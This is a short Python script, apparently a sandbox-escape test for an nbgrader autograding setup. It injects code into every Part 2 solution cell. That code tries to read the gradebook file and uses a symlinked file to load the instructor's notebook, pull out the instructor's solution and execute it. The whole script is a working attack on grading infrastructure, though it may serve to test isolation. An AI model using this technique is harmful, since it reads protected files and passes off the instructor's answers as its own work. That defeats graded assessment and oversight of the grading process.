# Every solution cell of Part 2 runs the instructor's solution of the same cell, read through the link
# notes.txt (nbgrader would copy the linked notebook into the autograded folder, with the instructor's
# permissions, and the sandbox would receive the copy), and says whether the gradebook was readable
ATTACK = '''\
import json
import re

try:
    with open("grades.txt", "rb") as file:
        print("ATTEMPT succeeded: read the gradebook through a link:", file.read(16))
    cells = json.load(open("notes.txt"))["cells"]
    source = next("".join(c["source"]) for c in cells if c["metadata"].get("nbgrader", {}).get("grade_id") == GRADE_ID)
    exec(re.sub(r"^\\s*### (BEGIN|END) SOLUTION\\n", "", source, flags=re.MULTILINE))
except OSError as error:
    print("ATTEMPT blocked:", type(error).__name__, error)
'''


def edit(notebooks):
    for cell in notebooks["part2_techniques"].cells:
        grading = cell.metadata.get("nbgrader", {})
        if grading.get("solution") and cell.cell_type == "code":
            cell.source = f"GRADE_ID = {grading['grade_id']!r}\n" + ATTACK
